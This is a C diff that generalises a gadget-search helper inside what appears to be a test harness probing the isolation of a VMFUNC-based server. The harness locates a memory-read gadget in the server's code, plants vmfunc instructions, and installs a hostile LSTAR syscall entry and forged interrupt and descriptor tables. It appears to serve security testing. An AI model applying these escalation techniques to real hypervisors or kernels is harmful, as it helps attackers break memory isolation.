@@ -104,13 +104,16 @@ static void copy_registers(void)
     stack[2] = 2;
 }
 
-/* Where in the server's text these two bytes are. */
-static uint64_t in_server_text(uint8_t first, uint8_t second)
+/* Where in the server's text this code is. */
+static uint64_t in_server_text(const uint8_t *code, unsigned length)
 {
     const uint8_t *text = (const uint8_t *)server_at;
-    for (int64_t byte = 0; byte + 1 < server_end - server_start; byte++)
-        if (text[byte] == first && text[byte + 1] == second) return SERVER_TEXT + (uint64_t)byte;
-    panic("an instruction is not in the server's text", (uint64_t)first << 8 | second);
+    for (int64_t byte = 0; byte + length <= server_end - server_start; byte++) {
+        unsigned same = 0;
+        while (same < length && text[byte + same] == code[same]) same++;
+        if (same == length) return SERVER_TEXT + (uint64_t)byte;
+    }
+    panic("an instruction is not in the server's text", code[0] << 8 | code[1]);
 }
 
 /* --- page tables that the client fills, in the window --- */
@@ -148,10 +151,10 @@ void window_target(uint64_t physical, bool as_window)
 /* By the API server's own code (peek), found at its address, and back through the trampoline. */
 struct outcome read_physical(uint64_t physical)
 {
-    const uint8_t *text = (const uint8_t *)server_at;
+    /* mov (%rdi), %rax; ret */
+    static const uint8_t code[] = {0x48, 0x8b, 0x07, 0xc3};
     static uint64_t gadget;
-    for (uint64_t byte = 0; !gadget; byte++)
-        if (text[byte] == 0x48 && text[byte + 1] == 0x8b && text[byte + 2] == 0x07 && text[byte + 3] == 0xc3) gadget = SERVER_TEXT + byte;
+    if (!gadget) gadget = in_server_text(code, sizeof code);
     plant(gadget - sizeof vmfunc, vmfunc, sizeof vmfunc, KERNEL_PAGE);
     vmwrite(GUEST_CR3, window_tables());
     window_target(physical, false);
@@ -248,7 +251,7 @@ static struct outcome own_tables_write(uint64_t physical)
 static struct outcome hostile_lstar(uint64_t lstar)
 {
     attack_start(3, true);
-    uint64_t instruction = in_server_text(0x0f, 0x05);
+    uint64_t instruction = in_server_text((const uint8_t[]){0x0f, 0x05}, 2);
     plant(instruction - sizeof vmfunc, vmfunc, sizeof vmfunc, USER_PAGE);
     copy_registers();
     wrmsr(0xc0000082, lstar);
@@ -261,7 +264,7 @@ static struct outcome hostile_tables(bool smep)
 {
     attack_start(3, true);
     vmwrite(GUEST_CR4, CR4_BASE | (smep ? CR4_SMEP : 0));
-    uint64_t *idt = window_page(1), *gdt = window_page(2), handler = smep ? SERVER_KTEXT + COPY_OFFSET : in_server_text(0x48, 0x8b);
+    uint64_t *idt = window_page(1), *gdt = window_page(2), handler = smep ? SERVER_KTEXT + COPY_OFFSET : in_server_text((const uint8_t[]){0x48, 0x8b}, 2);
     for (int vector = 0; vector < 256; vector++) {
         idt[2 * vector] = (handler & 0xffff) | 0x10ull << 16 | 0x8e00ull << 32 | (handler >> 16 & 0xffff) << 48;
         idt[2 * vector + 1] = handler >> 32;
@@ -271,7 +274,7 @@ static struct outcome hostile_tables(bool smep)
     vmwrite(GUEST_IDTR_BASE, WINDOW + 0x1000);
     vmwrite(GUEST_GDTR_BASE, WINDOW + 0x2000);
     vmwrite(GUEST_TR_BASE, WINDOW + 0x3000);
-    uint64_t instruction = in_server_text(0x0f, 0x0b);
+    uint64_t instruction = in_server_text((const uint8_t[]){0x0f, 0x0b}, 2);
     plant(instruction - sizeof vmfunc, vmfunc, sizeof vmfunc, USER_PAGE);
     copy_registers();
     set_instruction(instruction - sizeof vmfunc, WINDOW_STACK);
